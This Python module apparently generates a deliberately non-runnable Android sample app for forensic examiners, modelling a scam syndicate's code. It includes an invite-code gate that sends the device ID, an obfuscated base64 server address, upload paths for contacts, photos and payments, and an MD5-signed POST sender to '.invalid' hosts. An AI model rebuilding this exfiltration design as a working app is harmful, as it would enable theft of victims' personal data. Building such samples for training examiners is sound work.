"""The syndicate's own code, as far as an examiner needs it: what is read, where it would go, which code is asked for.

None of it can run: a build demands a platform that does not exist, declares its components disabled, asks for no
permission, and names only hosts under `.invalid` (ruling 7).
"""

from __future__ import annotations

import base64

from weftline_example.apk.dalvik import label, op
from weftline_example.apk.dex import Class
from weftline_example.apk.kit import Kit
from weftline_example.apk.phrases import (
    ACTIVITY,
    BUILDER,
    BUNDLE,
    CONTEXT,
    STRING,
    append,
    call,
    constant,
    init,
    joined,
    make,
    static,
    text,
    virtual,
)
from weftline_example.apk.taking import album, book, phone, sync

_CONNECTION, _URL, _OUT = "Ljava/net/HttpURLConnection;", "Ljava/net/URL;", "Ljava/io/OutputStream;"


def own_classes(kit: Kit) -> tuple[Class, ...]:
    """The classes of the code base for one build."""
    classes = (_config(kit), _gate(kit), _screen(kit), book(kit), _sender(kit), sync(kit), phone(kit), album(kit))
    return (*classes, _seal(kit), *((_payment(kit),) if kit.extra else ()))


def _config(kit: Kit) -> Class:
    verify, add, contacts, album, heart, pay = kit.paths()
    if kit.wrapped:
        hidden = base64.b64encode(kit.base.encode()).decode()
        body = (
            text("v0", hidden),
            op("const/4", "v1", lit=0),
            *call("static", "Landroid/util/Base64;", "decode", (STRING, "I"), "[B", "v0", "v1", to="v0"),
            *make("v1", STRING, ("[B",), "v0"),
            op("return-object", "v1"),
        )
    else:
        body = (text("v0", kit.base), op("return-object", "v0"))
    return Class(
        kit.at("Config"),
        source="Config.java",
        fields=(
            constant("PATH_VERIFY", verify),
            constant("PATH_DEVICE", add),
            constant("PATH_BOOK", contacts),
            constant("PATH_ALBUM", album),
            constant("PATH_HEART", heart),
            constant("PATH_PAY", pay),
            constant("CHANNEL", kit.channel),
        ),
        methods=(static("base", (), STRING, 2, body),),
    )


def _screen(kit: Kit) -> Class:
    edit, editable, view = "Landroid/widget/EditText;", "Landroid/text/Editable;", "Landroid/view/View;"
    return Class(
        kit.at("CodeActivity"),
        ACTIVITY,
        source="CodeActivity.java",
        methods=(
            init(ACTIVITY),
            virtual(
                "onCreate",
                (BUNDLE,),
                "V",
                2,
                call("super", ACTIVITY, "onCreate", (BUNDLE,), "V", "p0", "p1"),
                op("const/16", "v0", lit=0x7F03),
                call("virtual", ACTIVITY, "setContentView", ("I",), "V", "p0", "v0"),
                op("return-void"),
            ),
            virtual(
                "onClick",
                (view,),
                "V",
                3,
                op("const/16", "v0", lit=0x7F04),
                call("virtual", ACTIVITY, "findViewById", ("I",), view, "p0", "v0", to="v0"),
                op("check-cast", "v0", ref=edit),
                call("virtual", edit, "getText", (), editable, "v0", to="v0"),
                call("virtual", "Ljava/lang/Object;", "toString", (), STRING, "v0", to="v0"),
                call("static", kit.at("Gate"), "check", (CONTEXT, STRING), "Z", "p0", "v0", to="v1"),
                op("if-nez", "v1", to="in"),
                text("v2", "邀请码错误"),
                call("static", "Lio/openshell/ui/Notes;", "show", (CONTEXT, STRING), "V", "p0", "v2"),
                op("return-void"),
                label("in"),
                text("v2", "invite_code"),
                call(
                    "static", "Lio/openshell/core/JsonStore;", "put", (CONTEXT, STRING, STRING), "V", "p0", "v2", "v0"
                ),
                op("return-void"),
            ),
        ),
    )


def _gate(kit: Kit) -> Class:
    return Class(
        kit.at("Gate"),
        source="Gate.java",
        methods=(
            static(
                "check",
                (CONTEXT, STRING),
                "Z",
                4,
                make("v0", BUILDER),
                text("v1", "invite_code="),
                append("v0", "v1"),
                append("v0", "p1"),
                text("v1", "&device_id="),
                append("v0", "v1"),
                call("static", kit.at("Phone"), "id", (CONTEXT,), STRING, "p0", to="v1"),
                append("v0", "v1"),
                joined("v0", "v1"),
                text("v2", kit.paths()[0]),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v2", "v1", to="v0"),
                op("const/16", "v1", lit=200),
                op("if-eq", "v0", "v1", to="yes"),
                op("const/4", "v0", lit=0),
                op("return", "v0"),
                label("yes"),
                op("const/4", "v0", lit=1),
                op("return", "v0"),
            ),
        ),
    )


def _sender(kit: Kit) -> Class:
    return Class(
        kit.at("Sender"),
        source="Sender.java",
        methods=(
            static(
                "post",
                (STRING, STRING),
                "I",
                4,
                make("v0", BUILDER),
                call("static", kit.at("Config"), "base", (), STRING, to="v1"),
                append("v0", "v1"),
                append("v0", "p0"),
                joined("v0", "v1"),
                make("v0", _URL, (STRING,), "v1"),
                call("virtual", _URL, "openConnection", (), "Ljava/net/URLConnection;", "v0", to="v0"),
                op("check-cast", "v0", ref=_CONNECTION),
                text("v1", "POST"),
                call("virtual", _CONNECTION, "setRequestMethod", (STRING,), "V", "v0", "v1"),
                text("v1", "X-Sign"),
                call("static", kit.at("Seal"), "of", (STRING,), STRING, "p1", to="v2"),
                call("virtual", _CONNECTION, "setRequestProperty", (STRING, STRING), "V", "v0", "v1", "v2"),
                call("virtual", _CONNECTION, "getOutputStream", (), _OUT, "v0", to="v1"),
                call("virtual", STRING, "getBytes", (), "[B", "p1", to="v2"),
                call("virtual", _OUT, "write", ("[B",), "V", "v1", "v2"),
                call("virtual", _OUT, "close", (), "V", "v1"),
                call("virtual", _CONNECTION, "getResponseCode", (), "I", "v0", to="v3"),
                op("return", "v3"),
            ),
        ),
    )


def _seal(kit: Kit) -> Class:
    digest = "Ljava/security/MessageDigest;"
    return Class(
        kit.at("Seal"),
        source="Seal.java",
        methods=(
            static(
                "of",
                (STRING,),
                STRING,
                4,
                text("v0", "MD5"),
                call("static", digest, "getInstance", (STRING,), digest, "v0", to="v0"),
                text("v1", kit.salt),
                call("virtual", STRING, "concat", (STRING,), STRING, "p0", "v1", to="v1"),
                call("virtual", STRING, "getBytes", (), "[B", "v1", to="v1"),
                call("virtual", digest, "digest", ("[B",), "[B", "v0", "v1", to="v1"),
                op("const/4", "v2", lit=2),
                call("static", "Landroid/util/Base64;", "encodeToString", ("[B", "I"), STRING, "v1", "v2", to="v3"),
                op("return-object", "v3"),
            ),
        ),
    )


def _payment(kit: Kit) -> Class:
    return Class(
        kit.at("PayActivity"),
        ACTIVITY,
        source="PayActivity.java",
        methods=(
            init(ACTIVITY),
            virtual(
                "load",
                (STRING,),
                "I",
                3,
                make("v0", BUILDER),
                text("v1", "order="),
                append("v0", "v1"),
                append("v0", "p1"),
                joined("v0", "v1"),
                text("v2", kit.paths()[5]),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v2", "v1", to="v0"),
                op("return", "v0"),
            ),
        ),
    )
